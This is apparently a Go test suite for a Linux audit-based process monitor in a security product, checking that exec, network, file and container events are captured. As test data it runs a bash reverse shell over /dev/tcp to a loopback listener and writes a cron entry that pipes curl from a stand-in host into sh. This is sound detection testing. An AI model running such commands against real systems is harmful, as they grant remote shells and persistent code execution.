//go:build linux

package procevents

import (
	"context"
	"io"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	libaudit "github.com/elastic/go-libaudit/v2"

	"github.com/palisade-cwpp/palisade/internal/detect/behavior"
)

// lockAudit serialises tests that install audit rules: the kernel has one rule list, and two
// test binaries removing the same rule would cut each other off.
func lockAudit(t *testing.T) {
	t.Helper()
	f, err := os.OpenFile(filepath.Join(os.TempDir(), "palisade-audit-test.lock"), os.O_CREATE|os.O_RDWR, 0o600)
	if err != nil {
		t.Fatal(err)
	}
	if err := syscall.Flock(int(f.Fd()), syscall.LOCK_EX); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
}

// collector runs a source and keeps its events.
type collector struct {
	mu     sync.Mutex
	events []*behavior.Event
	src    *Source
	cancel context.CancelFunc
	done   chan error
}

func startSource(t *testing.T, cfg Config) *collector {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Fatal("process-event tests need root (audit netlink); this suite runs as root in CI")
	}
	lockAudit(t)
	src, err := Open(cfg, slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatalf("open audit source: %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	c := &collector{src: src, cancel: cancel, done: make(chan error, 1)}
	go func() {
		c.done <- src.Run(ctx, func(ev *behavior.Event) {
			c.mu.Lock()
			c.events = append(c.events, ev)
			c.mu.Unlock()
		})
	}()
	t.Cleanup(func() {
		cancel()
		if err := <-c.done; err != nil {
			t.Errorf("run: %v", err)
		}
	})
	return c
}

// wait returns the first event satisfying match, failing after a few seconds.
func (c *collector) wait(t *testing.T, what string, match func(*behavior.Event) bool) *behavior.Event {
	t.Helper()
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		c.mu.Lock()
		for _, ev := range c.events {
			if match(ev) {
				c.mu.Unlock()
				return ev
			}
		}
		c.mu.Unlock()
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("no %s event; stats %+v", what, c.src.Stats())
	return nil
}

func TestShortLivedExecKeepsFullArgv(t *testing.T) {
	c := startSource(t, Config{Watch: []string{}})
	marker := "palisade-marker-" + strconv.Itoa(os.Getpid())
	long := strings.Repeat("x", 5000) // split by the kernel into a1[0], a1[1], ...
	cmd := exec.Command("/bin/sh", "-c", "exit 0", marker, "two words", long)
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	ev := c.wait(t, "exec", func(ev *behavior.Event) bool {
		return ev.Kind == behavior.KindExec && slices.Contains(ev.Proc.Args, marker)
	})
	want := []string{"/bin/sh", "-c", "exit 0", marker, "two words", long}
	if !slices.Equal(ev.Proc.Args, want) {
		t.Errorf("args %q, want %q", ev.Proc.Args, want)
	}
	if ev.Proc.PID != int32(cmd.ProcessState.Pid()) || ev.Proc.PPID != int32(os.Getpid()) {
		t.Errorf("pid %d ppid %d, want %d %d", ev.Proc.PID, ev.Proc.PPID, cmd.ProcessState.Pid(), os.Getpid())
	}
	if !strings.HasSuffix(ev.Proc.Exe, "sh") && !strings.HasSuffix(ev.Proc.Exe, "dash") && !strings.HasSuffix(ev.Proc.Exe, "bash") {
		t.Errorf("exe %q", ev.Proc.Exe)
	}
	wd, _ := os.Getwd()
	if ev.Proc.Cwd != wd || ev.Proc.UID != 0 || ev.Proc.EUID != 0 {
		t.Errorf("cwd %q uid %d euid %d", ev.Proc.Cwd, ev.Proc.UID, ev.Proc.EUID)
	}
	if len(ev.Ancestors) == 0 || ev.Ancestors[0].PID != int32(os.Getpid()) {
		t.Fatalf("ancestors %+v, want this test process first", ev.Ancestors)
	}
	self, _ := os.Executable()
	if ev.Ancestors[0].Exe != self {
		t.Errorf("parent exe %q, want %q", ev.Ancestors[0].Exe, self)
	}
}

func TestExecBurstIsNotLost(t *testing.T) {
	c := startSource(t, Config{Watch: []string{}})
	marker := "burst-" + strconv.Itoa(os.Getpid())
	const n = 300
	// One shell runs n short processes back to back, as fast as fork and exec allow.
	script := "i=0; while [ $i -lt " + strconv.Itoa(n) + " ]; do /bin/true " + marker + " $i; i=$((i+1)); done"
	if out, err := exec.Command("/bin/sh", "-c", script).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	seen := map[string]bool{}
	deadline := time.Now().Add(10 * time.Second)
	for len(seen) < n && time.Now().Before(deadline) {
		time.Sleep(50 * time.Millisecond)
		c.mu.Lock()
		for _, ev := range c.events {
			if ev.Kind == behavior.KindExec && len(ev.Proc.Args) == 3 && ev.Proc.Args[1] == marker {
				seen[ev.Proc.Args[2]] = true
			}
		}
		c.mu.Unlock()
	}
	st := c.src.Stats()
	if len(seen) != n {
		t.Errorf("saw %d of %d execs; stats %+v", len(seen), n, st)
	}
	t.Logf("stats %+v", st)
}

func TestConnectAndReverseShellDescriptors(t *testing.T) {
	c := startSource(t, Config{Watch: []string{}})
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	accepted := make(chan net.Conn, 1)
	go func() {
		conn, err := ln.Accept()
		if err == nil {
			accepted <- conn
		}
	}()
	// The classic: a shell whose descriptors are a TCP connection to the "attacker".
	shell := exec.Command("/bin/bash", "-c", "exec /bin/bash -i >& /dev/tcp/127.0.0.1/"+strconv.Itoa(port)+" 0>&1")
	if err := shell.Start(); err != nil {
		t.Fatal(err)
	}
	defer shell.Process.Kill()
	var conn net.Conn
	select {
	case conn = <-accepted:
		defer conn.Close()
	case <-time.After(5 * time.Second):
		t.Fatal("reverse shell did not connect")
	}
	remote := "127.0.0.1:" + strconv.Itoa(port)
	cev := c.wait(t, "connect", func(ev *behavior.Event) bool {
		return ev.Kind == behavior.KindConnect && ev.Net.Remote.String() == remote
	})
	if cev.Proc.PID != int32(shell.Process.Pid) || !strings.HasSuffix(cev.Proc.Exe, "bash") {
		t.Errorf("connect by pid %d exe %q, want %d bash", cev.Proc.PID, cev.Proc.Exe, shell.Process.Pid)
	}
	eev := c.wait(t, "exec of the interactive shell", func(ev *behavior.Event) bool {
		return ev.Kind == behavior.KindExec && ev.Proc.PID == int32(shell.Process.Pid) && slices.Contains(ev.Proc.Args, "-i")
	})
	for i, fd := range eev.Std {
		if fd.Type != behavior.FDSocket || fd.Remote.String() != remote {
			t.Errorf("fd %d: %v %v, want a socket to %s", i, fd.Type, fd.Remote, remote)
		}
	}
	if len(eev.Ancestors) == 0 || eev.Ancestors[0].PID != int32(os.Getpid()) {
		t.Errorf("ancestors %+v", eev.Ancestors)
	}
}

// The kernel never audits the audit daemon's own syscalls, and in these tests the test binary is
// that daemon: what must be seen is done by child processes, here the test binary run again.
func TestMain(m *testing.M) {
	if addr := os.Getenv("PROCEVENTS_TEST_ACCEPT"); addr != "" {
		ln, err := net.Listen("tcp", addr)
		if err != nil {
			os.Exit(2)
		}
		os.Stdout.WriteString(ln.Addr().String() + "\n")
		conn, err := ln.Accept()
		if err != nil {
			os.Exit(3)
		}
		time.Sleep(2 * time.Second) // stay connected while the source reads the peer
		conn.Close()
		os.Exit(0)
	}
	os.Exit(m.Run())
}

func TestAcceptNamesThePeer(t *testing.T) {
	c := startSource(t, Config{Watch: []string{}})
	server := exec.Command(os.Args[0], "-test.run=^$")
	server.Env = append(os.Environ(), "PROCEVENTS_TEST_ACCEPT=127.0.0.1:0")
	out, err := server.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := server.Start(); err != nil {
		t.Fatal(err)
	}
	defer server.Wait()
	line := make([]byte, 64)
	n, err := out.Read(line)
	if err != nil {
		t.Fatal(err)
	}
	conn, err := net.Dial("tcp", strings.TrimSpace(string(line[:n])))
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	peer := conn.LocalAddr().String()
	ev := c.wait(t, "accept", func(ev *behavior.Event) bool {
		return ev.Kind == behavior.KindAccept && ev.Proc.PID == int32(server.Process.Pid) && ev.Net.Remote.String() == peer
	})
	if ev.Net.Proto != "inet" || len(ev.Ancestors) == 0 || ev.Ancestors[0].PID != int32(os.Getpid()) {
		t.Errorf("proto %q ancestors %+v", ev.Net.Proto, ev.Ancestors)
	}
}

func TestWatchedPathChanges(t *testing.T) {
	dir := t.TempDir()
	c := startSource(t, Config{NoNetwork: true, Watch: []string{dir}})
	path := filepath.Join(dir, "evil-cron")
	sh := exec.Command("/bin/sh", "-c", `echo '* * * * * root curl http://203.0.113.9/x | sh' > "$1"; chmod 755 "$1"`, "sh", path)
	if out, err := sh.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	ev := c.wait(t, "file create", func(ev *behavior.Event) bool {
		return ev.Kind == behavior.KindFile && ev.File.Path == path && ev.File.Op == "create"
	})
	if ev.Proc.PID != int32(sh.Process.Pid) {
		t.Errorf("file event by pid %d, want the shell %d", ev.Proc.PID, sh.Process.Pid)
	}
	c.wait(t, "chmod", func(ev *behavior.Event) bool {
		return ev.Kind == behavior.KindFile && ev.File.Path == path && ev.File.Op == "chmod" && ev.File.Mode == 0o755
	})
}

func TestCloseRemovesRules(t *testing.T) {
	c := startSource(t, Config{Watch: []string{}})
	if n := len(c.src.rules); n == 0 {
		t.Fatal("no rules installed")
	}
	c.cancel()
	if err := <-c.done; err != nil {
		t.Fatal(err)
	}
	c.done <- nil // for the cleanup
	client, err := libaudit.NewAuditClient(nil)
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()
	rules, err := client.GetRules()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rules {
		if strings.Contains(string(r), "palisade-") {
			t.Errorf("rule left behind: %q", r)
		}
	}
}

func TestSlowConsumerShedsAndCounts(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Fatal("needs root (audit netlink); this suite runs as root in CI")
	}
	lockAudit(t)
	src, err := Open(Config{Watch: []string{}, Queue: 8, Delay: time.Millisecond}, slog.New(slog.NewTextHandler(io.Discard, nil)))
	if err != nil {
		t.Fatal(err)
	}
	// While the source owns the audit socket the kernel never makes a process wait for it.
	if src.Mode() == "unicast" {
		st, err := src.control.GetStatus()
		if err != nil || st.BacklogWaitTime != 0 {
			t.Errorf("backlog wait time %+v (%v), want 0", st, err)
		}
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	var mu sync.Mutex
	seen := 0
	go func() {
		done <- src.Run(ctx, func(ev *behavior.Event) {
			time.Sleep(20 * time.Millisecond) // a consumer far slower than the host
			mu.Lock()
			seen++
			mu.Unlock()
		})
	}()
	const n = 200
	start := time.Now()
	script := "i=0; while [ $i -lt " + strconv.Itoa(n) + " ]; do /bin/true; i=$((i+1)); done"
	if out, err := exec.Command("/bin/sh", "-c", script).CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	took := time.Since(start)
	time.Sleep(500 * time.Millisecond)
	cancel()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	st := src.Stats()
	mu.Lock()
	defer mu.Unlock()
	// The host ran its n processes without waiting for the consumer (20ms each would be 4s).
	t.Logf("%d execs in %s; delivered %d, shed %d", n, took, seen, st.Shed)
	if st.Shed == 0 {
		t.Errorf("nothing shed with a queue of 8 and a slow consumer: %+v", st)
	}
	if st.Events != uint64(seen) {
		t.Errorf("events %d, delivered %d", st.Events, seen)
	}
}

func TestProcConnectorFallback(t *testing.T) {
	c := startSource(t, Config{Socket: "proc-connector"})
	if c.src.Mode() != "proc-connector" || c.src.Fallback() == "" {
		t.Fatalf("mode %q fallback %q", c.src.Mode(), c.src.Fallback())
	}
	marker := "connector-" + strconv.Itoa(os.Getpid())
	// A process that lives long enough for /proc to be read: the fallback's limit, by design.
	cmd := exec.Command("/bin/sh", "-c", "sleep 0.5", marker)
	if err := cmd.Run(); err != nil {
		t.Fatal(err)
	}
	ev := c.wait(t, "exec via the proc connector", func(ev *behavior.Event) bool {
		return ev.Kind == behavior.KindExec && slices.Contains(ev.Proc.Args, marker)
	})
	if !strings.HasSuffix(ev.Proc.Exe, "sh") || ev.Proc.PPID != int32(os.Getpid()) || len(ev.Ancestors) == 0 {
		t.Errorf("event %+v", ev.Proc)
	}
}

// TestContainerIDFromRealCgroup puts a process into a cgroup laid out as Docker lays them out
// (no container engine needed) and checks that its events carry the container ID.
func TestContainerIDFromRealCgroup(t *testing.T) {
	id := strings.Repeat("c0ffee", 10) + "d00d"
	var dir string
	for _, cand := range []string{"/sys/fs/cgroup/pids/docker/" + id, "/sys/fs/cgroup/unified/system.slice/docker-" + id + ".scope",
		"/sys/fs/cgroup/system.slice/docker-" + id + ".scope"} {
		if err := os.MkdirAll(cand, 0o755); err == nil {
			dir = cand
			break
		}
	}
	if dir == "" {
		t.Fatal("no writable cgroup hierarchy on this machine")
	}
	t.Cleanup(func() {
		os.Remove(dir)
		os.Remove(filepath.Dir(dir)) // docker/ or system.slice/, when empty and ours
	})
	c := startSource(t, Config{Watch: []string{}, NoNetwork: true})
	marker := "in-container-" + strconv.Itoa(os.Getpid())
	// The shell moves itself into the cgroup, then runs a process that lives long enough for
	// its cgroup to be read.
	cmd := exec.Command("/bin/sh", "-c", `echo $$ > "$1/cgroup.procs" && exec /bin/sh -c 'sleep 0.5' "$2"`, "sh", dir, marker)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	ev := c.wait(t, "exec in the cgroup", func(ev *behavior.Event) bool {
		return ev.Kind == behavior.KindExec && slices.Contains(ev.Proc.Args, marker)
	})
	if ev.Proc.ContainerID != id {
		t.Errorf("container %q, want %q", ev.Proc.ContainerID, id)
	}
}
